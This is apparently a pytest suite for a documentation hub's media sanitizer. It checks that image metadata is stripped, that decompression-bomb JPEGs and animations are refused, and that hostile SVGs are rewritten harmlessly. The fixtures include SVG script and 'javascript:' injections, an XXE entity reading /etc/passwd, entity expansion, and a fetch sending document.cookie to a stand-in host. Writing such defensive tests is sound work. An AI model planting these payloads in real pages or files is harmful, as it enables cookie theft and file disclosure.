"""Hostile media: each is refused before decoding (at ``file:line``) or made again harmless, which
the tests show on the output, parsed with Pillow, PyAV and a real XML parser.

Every file is made here (Pillow, PyAV), so each test says what the attack is."""

from __future__ import annotations

import io
import re
import xml.etree.ElementTree as ElementTree
from pathlib import Path

import pytest
from PIL import Image, ImageFile, PngImagePlugin

from toolkit.checks.files import file_problems
from toolkit.checks.validate import validate_tree
from toolkit.media import images, svg
from toolkit.media.images import limits_problem, prepare

PAGE = "docs/methodologies/debat-budget/index.fr.md"
FOLDER = "docs/methodologies/debat-budget"
SECRET = "Awa Traore 14.4467N 11.4456W"  # a name and a position: what must never be published


def _embed(root: Path, name: str) -> None:
    path = root / PAGE
    text = path.read_text(encoding="utf-8")
    path.write_text(
        text.replace("Le débat porte", f"![Une image]({name})\n\nLe débat porte", 1),
        encoding="utf-8",
    )


def _photo(size=(640, 480)) -> Image.Image:
    noise = Image.effect_noise(size, 40).convert("L")
    return Image.merge("RGB", (noise, noise.transpose(Image.Transpose.FLIP_LEFT_RIGHT), noise))


def _no_secret(data: bytes) -> None:
    for part in ("Awa", "Traore", "14.4467", "GPS", "Exif", "XMP", "xmpmeta", "tEXt", "iTXt"):
        assert part.encode() not in data, part


# --- Raster images: metadata never survives ---------------------------------------------------


def _jpeg_gps(path: Path) -> Path:
    exif = Image.Exif()
    exif[0x013B] = SECRET  # Artist
    exif[0x8825] = {1: "N", 2: (14.0, 26.0, 48.0), 3: "W", 4: (11.0, 27.0, 44.0)}  # GPS IFD
    _photo().save(path, "JPEG", quality=85, exif=exif, comment=SECRET.encode())
    return path


def _png_text(path: Path) -> Path:
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", SECRET)
    info.add_text("Comment", SECRET, zip=True)
    info.add_itxt("XML:com.adobe.xmp", f"<x:xmpmeta>{SECRET}</x:xmpmeta>")
    drawing = Image.new("RGB", (300, 200), "white")
    drawing.paste((200, 40, 20), (20, 20, 200, 150))
    drawing.save(path, "PNG", pnginfo=info)
    return path


def _gif_comment(path: Path, frames: int = 3) -> Path:
    images_ = []
    for index in range(frames):  # each frame differs from the one before (none is merged)
        frame = Image.new("RGB", (40, 30), "white")
        frame.putpixel((index % 40, index // 40 % 30), (200, index % 256, 0))
        images_.append(frame)
    images_[0].save(
        path,
        "GIF",
        save_all=True,
        append_images=images_[1:],
        duration=200,
        loop=0,
        comment=SECRET.encode(),
    )
    return path


def _webp_xmp(path: Path) -> Path:
    exif = Image.Exif()
    exif[0x013B] = SECRET
    _photo((320, 240)).save(
        path, "WEBP", quality=80, xmp=f"<x:xmpmeta>{SECRET}</x:xmpmeta>".encode(), exif=exif
    )
    return path


@pytest.mark.parametrize(
    "name, make",
    [
        ("gps.jpg", _jpeg_gps),
        ("text.png", _png_text),
        ("comment.gif", _gif_comment),
        ("xmp.webp", _webp_xmp),
    ],
)
def test_metadata_of_every_raster_format_is_gone_from_what_is_published(tmp_path, name, make):
    source = make(tmp_path / name)
    assert SECRET.encode() in source.read_bytes() or name.endswith(".png")  # the attack is there
    prepared = prepare(source, tmp_path)
    assert prepared.error is None and prepared.output is not None
    published = prepared.output.read_bytes()
    assert published != source.read_bytes()
    _no_secret(published)
    with Image.open(prepared.output) as out:
        assert out.format == Image.open(source).format
        assert not out.getexif()
        assert not {"exif", "xmp", "comment", "icc_profile", "Author", "Comment"} & set(out.info)
        assert not getattr(out, "text", {})
        assert getattr(out, "n_frames", 1) == getattr(Image.open(source), "n_frames", 1)


def test_a_gif_made_again_is_no_heavier_and_keeps_its_frames_and_transparency(tmp_path):
    opaque = _gif_comment(tmp_path / "opaque.gif", frames=12)
    prepared = prepare(opaque, tmp_path)
    assert prepared.output_bytes <= opaque.stat().st_size * 1.1  # frame differences kept
    frames = []
    for index in range(3):  # a dot moving over a transparent background
        frame = Image.new("RGBA", (30, 20), (0, 0, 0, 0))
        frame.paste((200, 40, 20, 255), (index * 10, 5, index * 10 + 8, 13))
        frames.append(frame)
    source = tmp_path / "clear.gif"
    frames[0].save(
        source, save_all=True, append_images=frames[1:], duration=100, loop=0, disposal=2
    )
    with Image.open(prepare(source, tmp_path).output) as out:
        assert out.n_frames == 3
        out.seek(2)
        last = out.convert("RGBA")
        assert last.getpixel((2, 8))[3] == 0  # where the dot was first: transparent again
        assert last.getpixel((22, 8))[3] == 255


def test_an_animated_webp_is_made_again_frame_by_frame(tmp_path):
    frames = [_photo((200, 150)) for _ in range(4)]
    source = tmp_path / "anim.webp"
    frames[0].save(
        source,
        "WEBP",
        save_all=True,
        append_images=frames[1:],
        duration=150,
        loop=0,
        xmp=f"<x:xmpmeta>{SECRET}</x:xmpmeta>".encode(),
    )
    prepared = prepare(source, tmp_path)
    _no_secret(prepared.output.read_bytes())
    with Image.open(prepared.output) as out:
        assert out.n_frames == 4 and out.size == (200, 150) and "xmp" not in out.info


# --- Raster images: limits counted before decoding ---------------------------------------------


def _many_scans(scans: int) -> bytes:
    """A progressive JPEG whose first scan is repeated ``scans`` times (markers concatenated:
    what a crafted file with tens of thousands of scans looks like to a decoder)."""
    buffer = io.BytesIO()
    _photo((64, 64)).save(buffer, "JPEG", progressive=True, quality=80)
    data = buffer.getvalue()
    first = data.index(b"\xff\xda")
    second = data.index(b"\xff\xda", first + 2)
    return data[:first] + data[first:second] * scans + b"\xff\xd9"


def test_a_jpeg_with_thousands_of_scans_is_refused_at_the_page_line_before_decoding(
    site_tree, monkeypatch
):
    (site_tree / FOLDER / "scans.jpg").write_bytes(_many_scans(5_000))

    def never(*args, **kwargs):
        raise AssertionError("Pillow was asked to decode a file over the limits")

    monkeypatch.setattr(ImageFile.ImageFile, "load", never)
    _embed(site_tree, "scans.jpg")
    problems = [str(p) for p in validate_tree(site_tree).problems]
    assert problems == [
        f"{PAGE}:34: [image] The image 'scans.jpg' cannot be read (it is a JPEG with more than "
        f"{images.MAX_JPEG_SCANS} progressive scans, which would take minutes to decode). Fix: Open "
        "it in an image editor and export it again as JPEG (photos) or PNG (drawings)."
    ]


def test_scan_counting_sees_an_ordinary_progressive_jpeg_as_harmless():
    buffer = io.BytesIO()
    _photo().save(buffer, "JPEG", progressive=True)
    assert limits_problem(buffer.getvalue()) is None
    assert limits_problem(_many_scans(images.MAX_JPEG_SCANS)) is None
    assert "progressive scans" in limits_problem(_many_scans(images.MAX_JPEG_SCANS + 1))


def test_a_kit_cover_is_opened_within_the_same_limits(tmp_path):
    from toolkit.kits.errors import KitError
    from toolkit.kits.images import resize_cover

    cover = tmp_path / "cover.jpg"
    cover.write_bytes(_many_scans(images.MAX_JPEG_SCANS * 3))
    with pytest.raises(KitError) as refused:
        resize_cover(cover)
    assert "refused before decoding: it is a JPEG with more than" in str(refused.value)
    with Image.open(io.BytesIO(resize_cover(_jpeg_gps(tmp_path / "gps.jpg")))) as out:
        assert not out.getexif() and "comment" not in out.info


def test_scans_times_pixels_is_bounded_too(monkeypatch):
    data = _many_scans(20)  # 64×64 px in 20 scans: 81,920 pixel passes
    with images.open_limited(data):
        pass
    monkeypatch.setattr(images, "MAX_JPEG_SCAN_PIXELS", 80_000)
    with pytest.raises(images.ImageLimit, match="64×64 px in 20 scans"):
        images.open_limited(data)


def test_an_animation_with_too_many_frames_is_refused_before_decoding(tmp_path):
    source = _gif_comment(tmp_path / "frames.gif", frames=images.MAX_FRAMES + 5)
    prepared = prepare(source, tmp_path)
    assert prepared.output is None
    assert prepared.error == f"it is an animation of more than {images.MAX_FRAMES} frames"


def test_an_animation_with_too_many_pixels_is_refused_before_decoding(tmp_path, monkeypatch):
    monkeypatch.setattr(images, "MAX_ANIMATION_PIXELS", 100_000)
    prepared = prepare(_gif_comment(tmp_path / "big.gif", frames=100), tmp_path)
    assert prepared.output is None and "million pixels in all" in prepared.error


def test_an_oversized_source_is_not_published(tmp_path):
    Image.new("RGB", (images.SOURCE_MAX_PX + 10, 20), "white").save(tmp_path / "wide.png")
    prepared = prepare(tmp_path / "wide.png", tmp_path)
    assert prepared.output is None and prepared.source_px == (images.SOURCE_MAX_PX + 10, 20)


def test_an_image_shown_with_a_raw_img_is_made_again_and_checked_too(site_tree):
    folder = site_tree / FOLDER
    _jpeg_gps(folder / "raw.jpg")
    (folder / "scans.jpg").write_bytes(_many_scans(images.MAX_JPEG_SCANS + 1))
    page = site_tree / PAGE
    text = page.read_text(encoding="utf-8")
    page.write_text(
        text.replace(
            "Le débat porte",
            '<img src="raw.jpg" alt="Une salle">\n\n<img alt="x" src="scans.jpg">\n\nLe débat porte',
            1,
        ),
        encoding="utf-8",
    )
    result = validate_tree(site_tree)
    referenced = images.referenced_images(result, site_tree / "docs")
    assert (folder / "raw.jpg").resolve() in referenced
    assert [(p.path, p.line, p.check) for p in result.problems] == [(PAGE, 36, "image")]


# --- SVG: written again from the allowlist ----------------------------------------------------

XHTML = "http://www.w3.org/1999/xhtml"
OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
HOSTILE_SVG = {
    "namespaced script": OPEN
    + '<s:script xmlns:s="http://www.w3.org/2000/svg">fetch("https://x.example")</s:script></svg>',
    "plain script": OPEN + "<script>alert(1)</script></svg>",
    "xhtml script": OPEN + f'<h:script xmlns:h="{XHTML}">alert(1)</h:script></svg>',
    "foreignObject iframe": OPEN
    + f'<foreignObject width="9" height="9"><iframe xmlns="{XHTML}" src="https://x.example/"/>'
    "</foreignObject></svg>",
    "foreignObject img": OPEN
    + f'<foreignObject><img xmlns="{XHTML}" src="https://x.example/p.png"/></foreignObject></svg>',
    "foreignObject script src": OPEN
    + f'<foreignObject><script xmlns="{XHTML}" src="https://x.example/a.js"/></foreignObject></svg>',
    "escaped @import": OPEN + '<style>@\\69mport "https://x.example/a.css";</style><rect/></svg>',
    "escaped url(": OPEN + '<rect style="fill:u\\72l(https://x.example/t.png)"/></svg>',
    "escaped url( in an attribute": OPEN + '<rect fill="u\\72l(https://x.example/t.png)"/></svg>',
    "image-set(": OPEN
    + "<style>rect{fill:image-set('https://x.example/a.png' 1x)}</style><rect/></svg>",
    "url in a comment-split word": OPEN + '<rect style="fill:u/**/rl(https://x.example/)"/></svg>',
    "image element": OPEN + '<image href="https://x.example/p.png" width="9" height="9"/></svg>',
    "data image": OPEN + '<image xlink:href="data:image/png;base64,AAAA"/></svg>',
    "feImage": OPEN + '<filter id="f"><feImage href="https://x.example/p.png"/></filter></svg>',
    "use of another file": OPEN + '<use href="https://x.example/s.svg#a"/></svg>',
    "javascript link": OPEN + '<a xlink:href="javascript:alert(1)"><rect/></a></svg>',
    "animate sets href": OPEN
    + '<a href="#x"><animate attributeName="href" to="javascript:alert(1)"/><rect/></a></svg>',
    "set": OPEN + '<set attributeName="onclick" to="alert(1)"/></svg>',
    "event handler": OPEN + '<rect onload="alert(1)" onclick="alert(2)"/></svg>',
    "stylesheet PI": '<?xml-stylesheet href="https://x.example/a.css"?>' + OPEN + "<rect/></svg>",
    "metadata": OPEN + '<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    f"{SECRET}</rdf:RDF></metadata><!-- {SECRET} --><rect/></svg>",
}


def _assert_harmless(data: bytes) -> None:
    """``data`` parsed with a real XML parser holds only allowlisted SVG: no script, no handler,
    no address but #id, no CSS function but the allowed ones, nothing of the secret."""
    root = ElementTree.fromstring(data)  # the hub's output: plain XML with no DTD
    assert root.tag == f"{{{svg.SVG_NS}}}svg"
    for element in root.iter():
        namespace, _, local = element.tag[1:].partition("}")
        assert namespace == svg.SVG_NS and local in svg.ELEMENTS, element.tag
        for name, value in element.attrib.items():
            bare = name.rpartition("}")[2]
            assert not bare.lower().startswith("on"), name
            if bare == "href":
                assert re.fullmatch(r"#[\w.:-]+", value), value
            assert bare in svg.ATTRIBUTES or name in (
                f"{{{svg.XLINK_NS}}}href",
                f"{{{svg.XML_NS}}}space",
                f"{{{svg.XML_NS}}}lang",
            ), name
            assert "\\" not in value and "@" not in value
            for url in re.findall(r"url\(([^)]*)\)", value):
                assert url.strip("'\" ").startswith("#"), value
        text = "".join(element.itertext())
        assert "@" not in text and "image-set" not in text and "https:" not in text
    _no_secret(data)


@pytest.mark.parametrize("case", sorted(HOSTILE_SVG))
def test_a_hostile_svg_is_reported_at_its_line_and_its_output_is_harmless(case):
    source = HOSTILE_SVG[case].replace("><", ">\n<").encode()  # one element a line
    cleaned = svg.clean(source)
    assert cleaned.data is not None
    _assert_harmless(cleaned.data)
    if case != "stylesheet PI" and case != "metadata":  # left out silently: nothing on screen
        assert cleaned.problems, case
        assert all(line >= 2 for line, _what, _fix in cleaned.problems), cleaned.problems


def test_entities_and_dtds_are_refused_unparsed():
    for data in (
        b'<!DOCTYPE svg [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
        b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
        b'<svg xmlns="http://www.w3.org/2000/svg"/>',
    ):
        cleaned = svg.clean(data)
        assert cleaned.data is None
        assert cleaned.problems[0][1].startswith("The SVG declares a DTD or an entity")


def test_a_plain_drawing_keeps_its_look():
    source = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" '
        b'viewBox="0 0 100 50" width="200" height="100" inkscape:version="1.3">\n'
        b"<style>.a{fill:#c33;stroke:rgb(0,0,0)}</style>\n"
        b'<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs>\n'
        b'<g inkscape:label="Calque"><rect class="a" width="10" height="10" style="opacity:.5"/>\n'
        b'<circle cx="5" cy="5" r="4" fill="url(#g)"/><use xlink:href="#g" '
        b'xmlns:xlink="http://www.w3.org/1999/xlink"/>'
        b'<text x="1" y="9" font-family="\'DejaVu Sans\'" aria-label="Kayes (2024) &amp; Nioro">'
        b"Kayes &amp; Nioro</text></g></svg>"
    )
    cleaned = svg.clean(source)
    assert cleaned.problems == ()
    _assert_harmless(cleaned.data)
    root = ElementTree.fromstring(cleaned.data)
    ns = {"s": svg.SVG_NS}
    assert root.get("viewBox") == "0 0 100 50" and root.get("width") == "200"
    assert root.find("s:style", ns).text == ".a{fill:#c33;stroke:rgb(0,0,0)}"
    assert root.find("s:g/s:rect", ns).get("style") == "opacity:.5"
    assert root.find("s:g/s:circle", ns).get("fill") == "url(#g)"
    assert root.find("s:g/s:text", ns).text == "Kayes & Nioro"
    assert b"inkscape" not in cleaned.data
    assert images.svg_size(cleaned.data) == (200, 100)


def test_nesting_and_element_counts_are_bounded():
    deep = b'<svg xmlns="http://www.w3.org/2000/svg">' + b"<g>" * 200 + b"</g>" * 200 + b"</svg>"
    cleaned = svg.clean(deep)
    assert cleaned.data is None and "levels of nesting" in cleaned.problems[0][1]


def test_hub_check_reports_a_hostile_svg_anywhere_under_docs_at_its_line(site_tree):
    (site_tree / FOLDER / "carte.svg").write_text(
        OPEN + '\n<rect width="4" height="4"/>\n<s:script xmlns:s="http://www.w3.org/2000/svg">'
        "alert(1)</s:script>\n</svg>"
    )
    assert [str(p) for p in file_problems(site_tree, site_tree / "docs")] == [
        f"{FOLDER}/carte.svg:3: [files] The SVG carries active or external content ('<script>'); "
        "the hub leaves it out. Fix: " + svg.FIX
    ]


def test_personal_data_in_a_drawings_text_is_named_at_its_line(site_tree):
    """A drawing's text is published (written again by the hub, but text all the same): a number
    split across <tspan>, in fullwidth digits, or in a title is found; a chart's labels, each a
    year or a figure, are not one number."""
    (site_tree / FOLDER / "carte.svg").write_text(
        OPEN
        + '\n<text x="1" y="1">Appeler\n<tspan>\uff17\uff16 12</tspan> <tspan>34 56</tspan></text>'
        + "\n<title>awa.diarra@example.org</title>"
        + "".join(f'\n<text x="{i}" y="9">{2019 + i}</text>' for i in range(6))
        + '\n<text x="1" y="5">12 345 678 900</text>\n</svg>',
        encoding="utf-8",
    )
    fix = "Fix: Remove it or name a role or an institution instead."
    assert [str(p) for p in file_problems(site_tree, site_tree / "docs")] == [
        f"{FOLDER}/carte.svg:3: [personal-data] The drawing shows what looks like a phone number: "
        f"'76 12 34 56'. {fix}",
        f"{FOLDER}/carte.svg:4: [personal-data] The drawing shows what looks like an e-mail "
        f"address: 'awa.diarra@example.org'. {fix}",
    ]


# --- Code under docs/ -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "rel", ["methodologies/debat-budget/track.js", "assets/extra.js", "assets/theme.css", "x.css"]
)
def test_a_contributors_script_or_style_sheet_is_refused(site_tree, rel):
    path = site_tree / "docs" / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("fetch('https://x.example/?c=' + document.cookie)")
    [problem] = file_problems(site_tree, site_tree / "docs")
    assert problem.path == f"docs/{rel}" and problem.check == "files"
    assert "hub's own assets" in problem.message or "never from content" in problem.message


def test_the_hubs_own_assets_are_the_ones_listed():
    from toolkit.checks.files import HUB_ASSETS

    root = Path(__file__).resolve().parents[2] / "docs"
    on_disk = {p.relative_to(root).as_posix() for p in (root / "assets").rglob("*") if p.is_file()}
    assert on_disk == set(HUB_ASSETS)
